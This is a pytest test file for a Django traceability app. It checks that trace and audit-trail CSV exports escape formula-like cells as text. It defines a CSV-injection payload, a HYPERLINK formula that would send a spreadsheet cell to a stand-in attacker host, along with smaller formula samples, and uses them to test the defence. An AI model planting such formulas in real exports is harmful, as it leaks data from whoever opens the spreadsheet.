"""Trace and audit-trail CSV exports written through the one CSV writer: what a supplier, an ERP
or an old record typed as a formula reaches the auditor's spreadsheet as text."""

from __future__ import annotations

import csv
import io

from traceability.models import ReportJob
from workorders import services
from workorders.models import Lot, Product, WorkOrder

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_trace_csv_writes_formula_like_cells_as_text(genealogy, auditor, client_for):
    # Records from before part and order numbers were validated, and a supplier's free text.
    Product.objects.filter(part_number="SUB-100").update(part_number="=2+3")
    WorkOrder.objects.filter(number="WO-SUB-1").update(number="=1+2")
    Lot.objects.filter(code="STEEL-1").update(supplier=HYPERLINK, supplier_lot="@SUM(1)")

    response = client_for(auditor).get("/trace/SN-1/export.csv?direction=backward")

    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = rows_of(response.content)
    sub = next(r for r in rows if r["record"] == "lot" and r["lot"] == "SUB-1")
    assert sub["product"].startswith("'=2+3") and sub["work_order"] == "'=1+2"
    steel = next(r for r in rows if r["record"] == "lot" and r["lot"] == "STEEL-1")
    assert steel["note"] == "'" + f"{HYPERLINK}; @SUM(1)"
    # Nothing anywhere in the file still begins a cell with a formula character.
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]


def test_audit_trail_csv_writes_formula_like_reasons_and_values_as_text(
    genealogy, auditor, supervisor, client_for, django_capture_on_commit_callbacks, settings
):
    settings.REPORT_JOBS_INLINE = True
    received = services.lot_receive(
        product=genealogy.products["steel"],
        site=genealogy.site,
        quantity="5",
        user=supervisor,
        code="STEEL-9",
        supplier=HYPERLINK,
        reason="=1+1",
    )
    client = client_for(auditor)

    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/reports/new/", {"kind": "audit_csv", "model": "workorders.lot", "record": received.code}
        )
    job = ReportJob.objects.get()
    download = client.get(f"/reports/{job.pk}/download/")

    assert download.status_code == 200
    rows = rows_of(b"".join(download.streaming_content))
    assert rows and {r["reason"] for r in rows} == {"'=1+1"}
    supplier = next(r for r in rows if r["field"] == "Supplier")
    assert supplier["new"] == "'" + HYPERLINK
